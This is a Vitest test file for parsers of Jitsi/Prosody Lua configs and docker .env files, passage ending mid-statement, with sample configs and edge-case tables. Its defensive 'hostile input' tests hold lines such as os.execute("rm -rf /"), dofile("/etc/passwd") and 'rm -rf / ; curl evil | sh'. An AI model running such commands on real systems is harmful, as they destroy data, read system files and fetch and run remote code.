// @vitest-environment node
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import {
  detectConfigFormat,
  parseDockerEnv,
  parseProsodyConfig,
  parseServerConfig,
  type ParsedServerConfig,
} from './config-parsers';
import type { ProsodySettings } from '../server/prosody-settings';

// A Debian-style /etc/prosody/conf.d/meet.example.com.cfg.lua after `apt install jitsi-meet-tokens`.
const DEBIAN_CONFIG = `-- Plugins path gets uncommented during jitsi-meet-tokens package install
plugin_paths = { "/usr/share/jitsi-meet/prosody-plugins/" }

-- domain mapper options, must at least have domain base set to use the mapper
muc_mapper_domain_base = "meet.example.com";

external_service_secret = "turn-secret-do-not-show";
external_services = {
     { type = "stun", host = "meet.example.com", port = 3478 },
     { type = "turn", host = "meet.example.com", port = 3478, transport = "udp", secret = true, ttl = 86400, algorithm = "turn" }
};

cross_domain_bosh = false;
consider_bosh_secure = true;
asap_accepted_issuers = { "my_app", 'backend' }
--[[ asap_accepted_audiences = { "old" }
]]

unlimited_jids = {
    "focus@auth.meet.example.com",
    "jvb@auth.meet.example.com"
}

VirtualHost "meet.example.com"
    authentication = "token" -- do not change
    -- Properties below are modified by jitsi-meet-tokens package config
    app_id="my_app"
    app_secret="s3cr3t-with-\\"quote\\""
    allow_empty_token = false;
    asap_accepted_audiences = { "jitsi"; "*"; }
    -- enable_domain_verification = false
    ssl = {
        key = "/etc/prosody/certs/meet.example.com.key";
        certificate = "/etc/prosody/certs/meet.example.com.crt";
    }
    av_moderation_component = "avmoderation.meet.example.com"
    speakerstats_component = "speakerstats.meet.example.com"
    conference_duration_component = "conferenceduration.meet.example.com"
    modules_enabled = {
        "bosh";
        "pubsub";
        "ping"; -- Enable mod_ping
        "speakerstats";
        "external_services";
        "conference_duration";
        "muc_lobby_rooms";
        "presence_identity";
    }
    c2s_require_encryption = false
    lobby_muc = "lobby.meet.example.com"
    main_muc = "conference.meet.example.com"

Component "conference.meet.example.com" "muc"
    restrict_room_creation = true
    storage = "memory"
    modules_enabled = {
        "muc_meeting_id";
        "muc_domain_mapper";
        "polls";
        "token_verification";
        "token_affiliation";
        "muc_rate_limit";
    }
    admins = { "focus@auth.meet.example.com" }
    token_verification_allowlist = { "recorder.meet.example.com" }
    muc_room_locking = false
    muc_room_default_public_jids = true

-- internal muc component
Component "internal.auth.meet.example.com" "muc"
    storage = "memory"
    modules_enabled = {
        "ping";
    }
    admins = { "focus@auth.meet.example.com", "jvb@auth.meet.example.com" }
    muc_room_locking = false

VirtualHost "guest.meet.example.com"
    authentication = "anonymous"
    c2s_require_encryption = false

VirtualHost "auth.meet.example.com"
    ssl = {
        key = "/etc/prosody/certs/auth.meet.example.com.key";
        certificate = "/etc/prosody/certs/auth.meet.example.com.crt";
    }
    modules_enabled = {
        "limits_exception";
    }
    authentication = "internal_hashed"

Component "focus.meet.example.com" "client_proxy"
    target_address = "focus@auth.meet.example.com"

Component "lobby.meet.example.com" "muc"
    storage = "memory"
    restrict_room_creation = true
    muc_room_locking = false
`;

// What docker-jitsi-meet's template renders with ENABLE_JAAS_COMPONENTS=1: a second token host comes first.
const DOCKER_RENDERED = `
muc_mapper_domain_base = "meet.jitsi";
muc_mapper_domain_prefix = "muc";
http_default_host = "meet.jitsi"
asap_accepted_issuers = { "jitsi_app" }
asap_accepted_audiences = { "jitsi_app" }
consider_bosh_secure = true;

VirtualHost "jigasi.meet.jitsi"
    modules_enabled = {
      "bosh";
      "muc_password_check";
    }
    authentication = "token"
    app_id = "jitsi";
    asap_key_server = "https://jaas-public-keys.jitsi.net/jitsi-components/prod-8x8"
    asap_accepted_issuers = { "jaas-components" }
    asap_accepted_audiences = { "jigasi.meet.example.com" }

VirtualHost "meet.jitsi"
       signature_algorithm = "HS512"
    authentication = "token"
    app_id = "jitsi_app"
    app_secret = "39RQlnugivCvauYQ9WXgJTwZ"
    allow_empty_token = false
    enable_domain_verification = false

    modules_enabled = {
        "bosh";
        "websocket";
        "smacks"; -- XEP-0198: Stream Management
    }

VirtualHost "guest.meet.jitsi"
    authentication = "jitsi-anonymous"

Component "muc.meet.jitsi" "muc"
    modules_enabled = {
        "muc_meeting_id";
        "token_verification";
    }
`;

function names(result: ParsedServerConfig): string[] {
  return result.understood.map((u) => u.name);
}

describe('parseProsodyConfig: real-looking full configs', () => {
  it('reads the token VirtualHost of a Debian jitsi-meet.cfg.lua with global defaults', () => {
    const result = parseProsodyConfig(DEBIAN_CONFIG);
    expect(result.format).toBe('prosody');
    expect(result.domain).toBe('meet.example.com');
    expect(result.publicUrl).toBeNull();
    expect(result.settings).toEqual<ProsodySettings>({
      authentication: 'token',
      app_id: 'my_app',
      app_secret: 's3cr3t-with-"quote"',
      allow_empty_token: false,
      asap_accepted_issuers: ['my_app', 'backend'],
      asap_accepted_audiences: ['jitsi', '*'],
      muc_mapper_domain_base: 'meet.example.com',
    });
    expect(result.problems).toEqual([]);
    expect(result.hosts.map((h) => [h.name, h.authentication, h.isChosen])).toEqual([
      ['meet.example.com', 'token', true],
      ['guest.meet.example.com', 'anonymous', false],
      ['auth.meet.example.com', 'internal_hashed', false],
    ]);
  });

  it('marks secrets, records where each value came from, and keeps line numbers', () => {
    const result = parseProsodyConfig(DEBIAN_CONFIG);
    const secret = result.understood.find((u) => u.name === 'app_secret');
    expect(secret).toMatchObject({ isSecret: true, line: 28, section: 'VirtualHost "meet.example.com"' });
    expect(result.understood.find((u) => u.name === 'asap_accepted_issuers')).toMatchObject({
      section: 'global',
      value: 'my_app, backend',
      line: 15,
      isSecret: false,
    });
    expect(result.understood.find((u) => u.name === 'muc_mapper_domain_base')?.line).toBe(5);
  });

  it('summarises modules: host list, the main MUC, and where watched modules are on', () => {
    const { modules } = parseProsodyConfig(DEBIAN_CONFIG);
    expect(modules.host).toContain('presence_identity');
    expect(modules.mainMuc).toBe('conference.meet.example.com');
    const main = modules.components.find((c) => c.name === 'conference.meet.example.com');
    expect(main?.tokenVerificationAllowlist).toEqual(['recorder.meet.example.com']);
    const allowlist = parseProsodyConfig(DEBIAN_CONFIG).understood.find(
      (u) => u.name === 'token_verification_allowlist',
    );
    expect(allowlist).toMatchObject({ line: 65, section: 'Component "conference.meet.example.com" "muc"' });
    expect(modules.watched.token_verification).toEqual({
      isEnabled: true,
      where: ['Component "conference.meet.example.com" "muc"'],
    });
    expect(modules.watched.token_affiliation.isEnabled).toBe(true);
    expect(modules.watched.token_moderation.isEnabled).toBe(false);
    expect(modules.watched.muc_allowners.isEnabled).toBe(false);
    expect(modules.watched.presence_identity.where).toEqual(['VirtualHost "meet.example.com"']);
    expect(modules.components.map((c) => [c.name, c.type])).toEqual([
      ['conference.meet.example.com', 'muc'],
      ['internal.auth.meet.example.com', 'muc'],
      ['focus.meet.example.com', 'client_proxy'],
      ['lobby.meet.example.com', 'muc'],
    ]);
  });

  it('reports what it ignored and why, hiding secret values', () => {
    const result = parseProsodyConfig(DEBIAN_CONFIG);
    const why = (fragment: string): string | undefined =>
      result.ignored.find((i) => i.text.includes(fragment))?.why;
    expect(why('VirtualHost "guest.meet.example.com"')).toMatch(/another VirtualHost/);
    expect(why('ssl = {')).toBe('not a token setting');
    expect(why('enable_domain_verification = false')).toBe('commented out');
    expect(why('Component "lobby.meet.example.com"')).toMatch(/component/);
    const turn = result.ignored.find((i) => i.text.startsWith('external_service_secret'));
    expect(turn?.text).toBe('external_service_secret = (hidden)');
    expect(JSON.stringify(result.ignored)).not.toContain('turn-secret-do-not-show');
  });

  it('prefers the token host named by muc_mapper_domain_base over an earlier JaaS token host', () => {
    const result = parseProsodyConfig(DOCKER_RENDERED);
    expect(result.domain).toBe('meet.jitsi');
    expect(result.settings).toEqual<ProsodySettings>({
      authentication: 'token',
      app_id: 'jitsi_app',
      app_secret: '39RQlnugivCvauYQ9WXgJTwZ',
      signature_algorithm: 'HS512',
      allow_empty_token: false,
      enable_domain_verification: false,
      asap_accepted_issuers: ['jitsi_app'],
      asap_accepted_audiences: ['jitsi_app'],
      muc_mapper_domain_base: 'meet.jitsi',
      muc_mapper_domain_prefix: 'muc',
    });
    expect(result.modules.mainMuc).toBe('muc.meet.jitsi');
    expect(result.notes.join(' ')).toMatch(
      /Several VirtualHosts use token authentication \(jigasi\.meet\.jitsi, meet\.jitsi\)/,
    );
  });
});

describe('parseProsodyConfig: Lua syntax', () => {
  it.each<[string, string, ProsodySettings]>([
    ['double quotes', 'VirtualHost "h"\n app_id = "a"', { app_id: 'a' }],
    ['single quotes', "VirtualHost 'h'\n app_id = 'a'", { app_id: 'a' }],
    ['call syntax for the host', 'VirtualHost("h")\n app_id = "a"', { app_id: 'a' }],
    ['Host alias', 'Host "h"\n app_id = "a"', { app_id: 'a' }],
    [
      'escapes',
      String.raw`VirtualHost "h" app_secret = "q\"b\\s\tt\x41\066\u{48}\'"`,
      { app_secret: 'q"b\\s\ttAB' + "H'" },
    ],
    [
      'UTF-8 bytes from escapes',
      String.raw`VirtualHost "h" app_secret = "caf\xC3\xA9 \195\169"`,
      { app_secret: 'café é' },
    ],
    ['\\z skips white space', 'VirtualHost "h" app_secret = "ab\\z\n     cd"', { app_secret: 'abcd' }],
    ['escaped newline', 'VirtualHost "h" app_secret = "ab\\\ncd"', { app_secret: 'ab\ncd' }],
    ['long string', 'VirtualHost "h" app_secret = [[raw\\n"x"]]', { app_secret: 'raw\\n"x"' }],
    [
      'long string with level and leading newline',
      'VirtualHost "h" app_secret = [==[\nhas ]] inside]==]',
      { app_secret: 'has ]] inside' },
    ],
    [
      'line comments',
      'VirtualHost "h" -- the host\n app_id = "a" -- the id\n -- app_id = "b"',
      { app_id: 'a' },
    ],
    ['block comments', 'VirtualHost "h"\n--[[ app_id = "b"\n]] app_id = "a" --[==[ ]] ]==]', { app_id: 'a' }],
    [
      'semicolons in a table',
      'VirtualHost "h" asap_accepted_issuers = { "a"; "b"; }',
      { asap_accepted_issuers: ['a', 'b'] },
    ],
    [
      'commas and a trailing comma',
      'VirtualHost "h" asap_accepted_issuers = { "a", "b", }',
      { asap_accepted_issuers: ['a', 'b'] },
    ],
    [
      'mixed separators over lines',
      'VirtualHost "h" asap_accepted_audiences = {\n "a",\n "b";\n "c"\n}',
      { asap_accepted_audiences: ['a', 'b', 'c'] },
    ],
    [
      'a plain string list is kept as a string',
      'VirtualHost "h" asap_accepted_issuers = "solo"',
      { asap_accepted_issuers: 'solo' },
    ],
    [
      'booleans',
      'VirtualHost "h" allow_empty_token = true enable_domain_verification = false',
      { allow_empty_token: true, enable_domain_verification: false },
    ],
    [
      'string and number booleans',
      'VirtualHost "h" allow_empty_token = "true"\n asap_require_room_claim = 0',
      { allow_empty_token: true, asap_require_room_claim: false },
    ],
    [
      'several statements on one line',
      'VirtualHost "h" app_id = "a"; app_secret = "s"',
      { app_id: 'a', app_secret: 's' },
    ],
    ['nil means unset', 'app_id = "g"\nVirtualHost "h" app_id = nil', { app_id: 'g' }],
    ['the later value wins', 'VirtualHost "h" app_id = "a"\n app_id = "b"', { app_id: 'b' }],
    [
      'a repeated VirtualHost merges',
      'VirtualHost "h" app_id = "a"\nVirtualHost "x"\nVirtualHost "h" app_secret = "s"',
      { app_id: 'a', app_secret: 's' },
    ],
    [
      'global values apply when the host does not set them',
      'app_id = "g"\napp_secret = "gs"\nVirtualHost "h"\n app_id = "h"',
      { app_id: 'h', app_secret: 'gs' },
    ],
    [
      'options after a Component do not reach the host',
      'VirtualHost "h" app_id = "a"\nComponent "c.h" "muc"\n app_secret = "s"',
      { app_id: 'a' },
    ],
    ['number for a string option', 'VirtualHost "h" app_id = 12345', { app_id: '12345' }],
    [
      'CRLF line ends',
      'VirtualHost "h"\r\n  app_id = "a"\r\n  app_secret = "s"\r\n',
      { app_id: 'a', app_secret: 's' },
    ],
  ])('%s', (_name, text, settings) => {
    const result = parseProsodyConfig(text);
    expect(result.settings).toEqual(settings);
  });

  it('picks the first VirtualHost when none uses token authentication', () => {
    const result = parseProsodyConfig('VirtualHost "a"\n app_id = "1"\nVirtualHost "b"\n app_id = "2"');
    expect(result.domain).toBe('a');
    expect(result.settings.app_id).toBe('1');
    expect(result.notes.join(' ')).toMatch(/No VirtualHost has authentication = "token"/);
  });

  it('takes the token VirtualHost even when it is not the first, with authentication from the global section', () => {
    const result = parseProsodyConfig(
      'authentication = "token"\nVirtualHost "auth.x" authentication = "internal_hashed"\nVirtualHost "x" app_id = "a"',
    );
    expect(result.domain).toBe('x');
    expect(result.settings).toEqual({ authentication: 'token', app_id: 'a' });
    expect(result.understood.find((u) => u.name === 'authentication')?.section).toBe('global');
  });

  it('applies modules_disabled and the global modules_enabled to the host', () => {
    const result = parseProsodyConfig(
      'modules_enabled = { "a", "b", "muc_allowners" }\nVirtualHost "h"\n modules_enabled = { "c" }\n modules_disabled = { "b" }',
    );
    expect(result.modules.host).toEqual(['a', 'muc_allowners', 'c']);
    expect(result.modules.watched.muc_allowners.isEnabled).toBe(true);
  });

  it.each<[string, string, RegExp]>([
    ['a list for a string option', 'VirtualHost "h" app_id = { "a", "b" }', /only the first item/],
    ['a word for a boolean', 'VirtualHost "h" allow_empty_token = "yes"', /expects true or false/],
    [
      'a number inside the issuer list',
      'VirtualHost "h" asap_accepted_issuers = { "a", 7 }',
      /non-string items never match/,
    ],
    ['an invalid escape', 'VirtualHost "h" app_id = "a\\qb"', /Invalid escape \\q/],
    ['two separators in a row', 'VirtualHost "h" asap_accepted_issuers = { "a",, "b" }', /Two separators/],
    ['a missing separator', 'VirtualHost "h" asap_accepted_issuers = { "a" "b" }', /Missing , or ;/],
    [
      'enabled = false on the token host',
      'VirtualHost "h" authentication = "token" enabled = false',
      /enabled = false/,
    ],
  ])('reports %s', (_name, text, message) => {
    const result = parseProsodyConfig(text);
    expect(result.problems.map((p) => p.message).join('\n')).toMatch(message);
  });
});

describe('parseProsodyConfig: hostile input is reported, never run', () => {
  it.each<[string, string, RegExp]>([
    ['os.execute', 'os.execute("rm -rf /")', /runs a program/],
    ['io.popen', 'local f = io.popen("id")', /Lua code/],
    ['dofile', 'dofile("/etc/passwd")', /runs a program/],
    ['require', 'require "socket"', /runs a program/],
    ['Include', 'Include "conf.d/*.cfg.lua"', /Include loads another file/],
    ['a function definition', 'function evil()\n  os.execute("x")\n  app_id = "stolen"\nend', /Lua code/],
    ['a computed value', 'app_secret = os.getenv("SECRET")', /runs a program/],
    ['a concatenation', 'app_id = "a" .. "b"', /computed value/],
    ['a variable reference', 'app_id = some_variable', /computed value \(uses some_variable\)/],
    ['a field assignment', 'config.app_id = "x"', /function call or Lua expression/],
    ['loadstring in a table', 'asap_accepted_issuers = { "ok", loadstring("x")() }', /runs a program/],
    ['stray characters', '@@@ $$$ !!!', /not Lua text/],
  ])('%s', (_name, line, why) => {
    const text = `VirtualHost "h"\n  app_id = "a"\n${line}\n  app_secret = "s"\n`;
    const result = parseProsodyConfig(text);
    expect(result.settings.app_id).toBe('a');
    expect(result.settings.app_secret).toBe('s');
    const entry = result.ignored.find((i) => why.test(i.why));
    expect(entry, JSON.stringify(result.ignored)).toBeDefined();
    expect(entry?.line).toBeGreaterThanOrEqual(3);
  });

  it('keeps the plain items of a list that also holds a call', () => {
    const result = parseProsodyConfig(
      'VirtualHost "h" asap_accepted_issuers = { "ok", loadstring("x")(), "fine" }',
    );
    expect(result.settings.asap_accepted_issuers).toEqual(['ok', 'fine']);
  });

  it('does not take settings from inside a function body', () => {
    const result = parseProsodyConfig('VirtualHost "h"\nfunction f()\n  app_id = "inner"\nend\n');
    expect(result.settings.app_id).toBeUndefined();
  });

  it('handles binary data without throwing', () => {
    const bytes = Array.from({ length: 5000 }, (_, i) => String.fromCharCode((i * 7919) % 256)).join('');
    expect(detectConfigFormat(bytes)).toBe('unknown');
    const detected = parseServerConfig(bytes);
    expect(detected.format).toBe('unknown');
    expect(detected.problems[0]?.message).toMatch(/binary/);
    expect(parseProsodyConfig(bytes)).toMatchObject({
      format: 'prosody',
      domain: null,
      settings: {},
      hosts: [],
    });
    expect(parseProsodyConfig(bytes).problems.length).toBeGreaterThan(0);
    // Nothing in it is a variable, so the .env reader falls back to docker's defaults: no token authentication.
    const env = parseDockerEnv(bytes);
    expect(env).toMatchObject({ format: 'env', domain: 'meet.jitsi' });
    expect(env.settings.authentication).toBe('jitsi-anonymous');
    expect(env.settings.app_id).toBeUndefined();
  });

  it('never throws on random Lua-like text', () => {
    const alphabet = fc.constantFrom(
      ...'VirtualHost Component app_id = "\'{}[]();,.-\\\n\r\t [[ ]] --[[ x 1 0x 1e5 \\x \\u{ \\z os.execute true nil'.split(
        ' ',
      ),
      '"',
      "'",
      '{',
      '}',
      '\n',
      '--',
      '[=[',
      ']=]',
      '\\',
    );
    fc.assert(
      fc.property(fc.array(alphabet, { maxLength: 80 }), (pieces) => {
        const result = parseProsodyConfig(pieces.join(' '));
        expect(result.format).toBe('prosody');
        expect(result.problems.every((p) => !p.message.startsWith('Internal error'))).toBe(true);
      }),
      { numRuns: 400 },
    );
  });
});

describe('parseProsodyConfig: partial input', () => {
  it.each<[string, string, RegExp, ProsodySettings]>([
    [
      'an unterminated string',
      'VirtualHost "h"\n app_id = "a\n app_secret = "s"',
      /line 2 is not closed/,
      { app_secret: 's' },
    ],
    ['a string open at the end', 'VirtualHost "h"\n app_id = "a', /never closed/, {}],
    [
      'an unterminated table',
      'VirtualHost "h"\n app_id = "a"\n asap_accepted_issuers = { "x", "y"',
      /opened on line 3 is never closed/,
      { app_id: 'a', asap_accepted_issuers: ['x', 'y'] },
    ],
    [
      'a table cut off by the next host',
      'VirtualHost "h"\n asap_accepted_issuers = { "x",\nVirtualHost "k"\n app_id = "k"',
      /not closed before VirtualHost on line 3/,
      { asap_accepted_issuers: ['x'] },
    ],
    [
      'an unterminated block comment',
      'VirtualHost "h"\n app_id = "a"\n--[[ app_secret = "s"',
      /block comment opened on line 3/,
      { app_id: 'a' },
    ],
    ['an unterminated long string', 'VirtualHost "h"\n app_id = [[abc', /long string opened on line 2/, {}],
    [
      'a VirtualHost without a name',
      'VirtualHost\n app_id = "a"',
      /must be followed by a quoted name/,
      { app_id: 'a' },
    ],
    [
      'a half-written assignment',
      'VirtualHost "h"\n app_id = "a"\n app_secret =',
      /not a plain value/,
      { app_id: 'a' },
    ],
  ])('%s', (_name, text, message, settings) => {
    const result = parseProsodyConfig(text);
    expect(result.settings).toEqual(settings);
    const reported = [...result.problems.map((p) => p.message), ...result.ignored.map((i) => i.why)].join(
      '\n',
    );
    expect(reported).toMatch(message);
  });
});

describe('parseDockerEnv', () => {
  // A docker-jitsi-meet .env made from env.example with JWT authentication switched on.
  const DOCKER_ENV = `# Security
#
# Set these to strong passwords to avoid intruders from impersonating a service account
JICOFO_COMPONENT_SECRET=0123456789abcdef
JICOFO_AUTH_PASSWORD=jicofo-password
JVB_AUTH_PASSWORD=jvb-password

#
# Basic configuration options
#
CONFIG=~/.jitsi-meet-cfg
HTTP_PORT=8000
HTTPS_PORT=8443
TZ=UTC
PUBLIC_URL=https://meet.example.com

# Enable authentication
ENABLE_AUTH=1
# Enable guest access
#ENABLE_GUESTS=1
# Select authentication type: internal, jwt, ldap or matrix
AUTH_TYPE=jwt

# Application identifier
JWT_APP_ID=my_jitsi_app_id
# Application secret known only to your token generator
JWT_APP_SECRET="my secret # with hash"
# (Optional) Set asap_accepted_issuers as a comma separated list
JWT_ACCEPTED_ISSUERS=my_web_client,my_app_client
# (Optional) Set asap_accepted_audiences as a comma separated list
JWT_ACCEPTED_AUDIENCES='my_server1,my_server2'
#JWT_ALLOW_EMPTY=0
export JWT_ENABLE_DOMAIN_VERIFICATION=true  # check sub
XMPP_DOMAIN=meet.jitsi
XMPP_MUC_DOMAIN=muc.meet.jitsi
XMPP_MUC_MODULES=token_affiliation,muc_allowners
`;

  it('maps a realistic docker .env onto the prosody options its template writes', () => {
    const result = parseDockerEnv(DOCKER_ENV);
    expect(result.format).toBe('env');
    expect(result.domain).toBe('meet.jitsi');
    expect(result.publicUrl).toBe('https://meet.example.com');
    expect(result.settings).toEqual<ProsodySettings>({
      authentication: 'token',
      app_id: 'my_jitsi_app_id',
      app_secret: 'my secret # with hash',
      asap_accepted_issuers: ['my_web_client', 'my_app_client'],
      asap_accepted_audiences: ['my_server1', 'my_server2'],
      allow_empty_token: false,
      enable_domain_verification: true,
      muc_mapper_domain_base: 'meet.jitsi',
      muc_mapper_domain_prefix: 'muc',
    });
    expect(result.problems).toEqual([]);
    expect(result.modules.mainMuc).toBe('muc.meet.jitsi');
    expect(result.modules.components[0]?.modules).toEqual([
      'muc_meeting_id',
      'token_affiliation',
      'muc_allowners',
      'token_verification',
    ]);
    expect(result.modules.watched.token_affiliation.isEnabled).toBe(true);
    expect(result.modules.watched.muc_allowners.isEnabled).toBe(true);
  });

  it('marks the secret, records lines and defaults, and hides other secrets it ignores', () => {
    const result = parseDockerEnv(DOCKER_ENV);
    expect(result.understood.find((u) => u.name === 'JWT_APP_SECRET')).toMatchObject({
      option: 'app_secret',
      isSecret: true,
      line: 27,
      section: '.env',
    });
    expect(result.understood.find((u) => u.name === 'JWT_ALLOW_EMPTY')).toMatchObject({
      isDefault: true,
      line: 0,
      value: '0',
    });
    expect(result.ignored.find((i) => i.text.startsWith('JICOFO_AUTH_PASSWORD'))?.text).toBe(
      'JICOFO_AUTH_PASSWORD=(hidden)',
    );
    expect(result.ignored.find((i) => i.text.startsWith('HTTP_PORT'))?.why).toBe(
      'not used for token authentication',
    );
    expect(result.ignored.find((i) => i.text.startsWith('JWT_ALLOW_EMPTY'))?.why).toBe('commented out');
    expect(JSON.stringify(result.ignored)).not.toMatch(/jicofo-password|jvb-password|0123456789abcdef/);
  });

  it.each<[string, string, Partial<ProsodySettings>]>([
    [
      'defaults: XMPP_DOMAIN meet.jitsi, prefix muc, domain check off',
      'ENABLE_AUTH=1\nAUTH_TYPE=jwt\nJWT_APP_ID=a',
      {
        app_id: 'a',
        muc_mapper_domain_base: 'meet.jitsi',
        muc_mapper_domain_prefix: 'muc',
        enable_domain_verification: false,
        allow_empty_token: false,
        authentication: 'token',
      },
    ],
    [
      'export and spaces around =',
      'export ENABLE_AUTH = 1\nexport AUTH_TYPE=jwt\nexport JWT_APP_ID = "a b"',
      { app_id: 'a b' },
    ],
    ['inline comment after an unquoted value', 'JWT_APP_ID=abc # the id', { app_id: 'abc' }],
    ['a # without a space is part of the value', 'JWT_APP_SECRET=ab#cd', { app_secret: 'ab#cd' }],
    ['double-quote escapes', 'JWT_APP_SECRET="a\\"b\\\\c"', { app_secret: 'a"b\\c' }],
    ['single quotes are literal', "JWT_APP_SECRET='a\\nb'", { app_secret: 'a\\nb' }],
    [
      'CRLF line ends',
      'ENABLE_AUTH=1\r\nAUTH_TYPE=jwt\r\nJWT_APP_ID=a\r\n',
      { app_id: 'a', authentication: 'token' },
    ],
    ['a BOM', '\uFEFFJWT_APP_ID=a', { app_id: 'a' }],
    [
      'toBool words',
      'JWT_ALLOW_EMPTY=true\nJWT_ENABLE_DOMAIN_VERIFICATION=T',
      { allow_empty_token: true, enable_domain_verification: true },
    ],
    [
      'JWT_SIGN_TYPE and the key server',
      'JWT_SIGN_TYPE=RS256\nJWT_ASAP_KEYSERVER=https://keys.example.com/asap',
      { signature_algorithm: 'RS256', asap_key_server: 'https://keys.example.com/asap' },
    ],
    [
      'PROSODY_AUTH_TYPE overrides AUTH_TYPE',
      'ENABLE_AUTH=1\nAUTH_TYPE=internal\nPROSODY_AUTH_TYPE=jwt',
      { authentication: 'token' },
    ],
    [
      'JWT_AUTH_TYPE renames the provider',
      'ENABLE_AUTH=1\nAUTH_TYPE=jwt\nJWT_AUTH_TYPE=token_custom',
      { authentication: 'token_custom' },
    ],
    [
      'ENABLE_AUTH off: anonymous',
      'AUTH_TYPE=jwt\nJWT_APP_ID=a',
      { authentication: 'jitsi-anonymous', app_id: 'a' },
    ],
    ['AUTH_TYPE internal', 'ENABLE_AUTH=1\nAUTH_TYPE=internal', { authentication: 'internal_hashed' }],
    [
      'a custom MUC domain',
      'XMPP_DOMAIN=meet.example.com\nXMPP_MUC_DOMAIN=conference.meet.example.com',
      { muc_mapper_domain_base: 'meet.example.com', muc_mapper_domain_prefix: 'conference' },
    ],
    ['the later value wins', 'JWT_APP_ID=a\nJWT_APP_ID=b', { app_id: 'b' }],
  ])('%s', (_name, text, settings) => {
    expect(parseDockerEnv(text).settings).toMatchObject(settings);
  });

  it.each<[string, string, RegExp]>([
    [
      'spaces after commas are kept, as the template does',
      'JWT_ACCEPTED_ISSUERS=a, b',
      /spaces around a comma/,
    ],
    ['an empty list item', 'JWT_ACCEPTED_AUDIENCES=a,,b', /empty item/],
    ['an unterminated quote', 'JWT_APP_SECRET="abc', /not closed on this line/],
    ['text after the closing quote', 'JWT_APP_ID="a" b', /Text after the closing quote/],
    ['interpolation', 'JWT_APP_SECRET=${SECRET}', /taken literally/],
    ['a boolean the template does not know', 'ENABLE_AUTH=yes', /not a boolean the template understands/],
    ['ENABLE_AUTH missing', 'JWT_APP_ID=a', /ENABLE_AUTH is not 1/],
    ['AUTH_TYPE not jwt', 'ENABLE_AUTH=1\nAUTH_TYPE=ldap', /AUTH_TYPE is ldap, not jwt/],
    ['JWT_APP_ID missing with jwt on', 'ENABLE_AUTH=1\nAUTH_TYPE=jwt', /JWT_APP_ID is not set/],
    ['a quote inside the issuer list', 'JWT_ACCEPTED_ISSUERS=a"b', /breaks the generated Lua/],
  ])('reports %s', (_name, text, message) => {
    expect(
      parseDockerEnv(text)
        .problems.map((p) => p.message)
        .join('\n'),
    ).toMatch(message);
  });

  it('keeps the exact issuer strings, spaces included', () => {
    expect(parseDockerEnv('JWT_ACCEPTED_ISSUERS=a, b').settings.asap_accepted_issuers).toEqual(['a', ' b']);
  });

  it.each<[string, string, string]>([
    ['a Lua line', 'VirtualHost "meet.example.com"', 'not a KEY=value line'],
    ['a shell command', 'rm -rf / ; curl evil | sh', 'not a KEY=value line'],
    ['a template expression', '{{ .Env.JWT_APP_ID }}', 'not a KEY=value line'],
  ])('ignores %s', (_name, line, why) => {
    const result = parseDockerEnv(`JWT_APP_ID=a\n${line}\n`);
    expect(result.ignored).toContainEqual({ text: line, line: 2, why });
    expect(result.settings.app_id).toBe('a');
  });
});

describe('detectConfigFormat and parseServerConfig', () => {
  it.each<[string, string, string]>([
    ['a full prosody config', DEBIAN_CONFIG, 'prosody'],
    ['a bare VirtualHost block', 'VirtualHost "x"\n  authentication = "token"', 'prosody'],
    ['prosody options without a host', 'app_id = "a"\napp_secret = "s"', 'prosody'],
    ['a docker .env', 'ENABLE_AUTH=1\nAUTH_TYPE=jwt\nJWT_APP_ID=a', 'env'],
    ['a commented .env', '# comment\n#ENABLE_AUTH=1\nJWT_APP_ID=a', 'env'],
    ['export lines', 'export JWT_APP_ID=a\nexport JWT_APP_SECRET=b', 'env'],
    ['prose', 'hello, this is not a config at all', 'unknown'],
    ['empty', '', 'unknown'],
  ])('%s → %s', (_name, text, format) => {
    expect(detectConfigFormat(text)).toBe(format);
    expect(parseServerConfig(text).format).toBe(format);
  });

  it('honours a forced format', () => {
    expect(parseServerConfig('JWT_APP_ID=a', 'prosody').format).toBe('prosody');
    expect(parseServerConfig('app_id = "a"', 'env').format).toBe('env');
  });

  it('explains what it expected when it cannot tell', () => {
    const result = parseServerConfig('just some words');
    expect(result.problems[0]?.message).toMatch(/Could not tell what this is/);
    expect(parseServerConfig('  ').notes).toEqual(['Nothing was pasted.']);
  });
});

// Large inputs as correctness cases; how fast they are read belongs to `npm run bench`.
describe('1 MB pastes', () => {
  const MB = 1 << 20;
  const repeat = (piece: string): string => piece.repeat(Math.ceil(MB / piece.length)).slice(0, MB);
  const none = { domain: null, hosts: 0 };

  it.each<[string, string, { domain: string | null; hosts: number; components?: number }]>([
    ['a long but ordinary config', repeat(DEBIAN_CONFIG), { domain: 'meet.example.com', hosts: 3 }],
    ['nested braces', repeat('{'), none],
    ['assignment of nested braces', `x = ${repeat('{')}`, none],
    ['unterminated strings on every line', repeat('app_id = "x\n'), none],
    ['quotes only', repeat('"'), none],
    ['backslashes in a string', `x = "${repeat('\\"')}`, none],
    ['block comment openers', repeat('--[['), none],
    ['long bracket openers', repeat('[='), none],
    ['many hosts', repeat('VirtualHost "h"\n'), { domain: 'h', hosts: 1 }],
    [
      'many distinct hosts',
      Array.from({ length: 40000 }, (_, i) => `VirtualHost "h${i}"\n`).join(''),
      { domain: 'h0', hosts: 40000 },
    ],
    [
      'many components',
      Array.from(
        { length: 40000 },
        (_, i) => `Component "c${i}" "muc"\n modules_enabled = { "token_verification" }\n`,
      ).join(''),
      { domain: null, hosts: 0, components: 40000 },
    ],
    ['a huge module list', `modules_enabled = { ${repeat('"m", ')} }`, none],
    ['open parentheses', repeat('os.execute('), none],
    ['function openers', repeat('function f() '), none],
    ['stray bytes', repeat('\u0000\u00ff@'), none],
    ['a .env-shaped paste', repeat('JWT_APP_ID="abc\n'), { domain: 'meet.jitsi', hosts: 1 }],
  ])('%s', (_name, text, expected) => {
    const format = text.startsWith('JWT') ? 'env' : 'prosody';
    const result = parseServerConfig(text, format);
    expect(result.format).toBe(format);
    expect(result.domain).toBe(expected.domain);
    expect(result.hosts).toHaveLength(expected.hosts);
    if (expected.components !== undefined)
      expect(result.modules.components).toHaveLength(expected.components);
    expect(result.ignored.length).toBeLessThanOrEqual(401);
    expect(result.problems.length).toBeLessThanOrEqual(401);
  });

  it('reads the settings of a repeated config once', () => {
    const result = parseServerConfig(repeat(DEBIAN_CONFIG), 'prosody');
    expect(result.settings).toMatchObject({ authentication: 'token', app_id: 'my_app' });
  });
});

// Guard for the test table above: the real config must parse into exactly these names, in option order.
it('lists understood options in a stable order', () => {
  expect(names(parseProsodyConfig(DEBIAN_CONFIG))).toEqual([
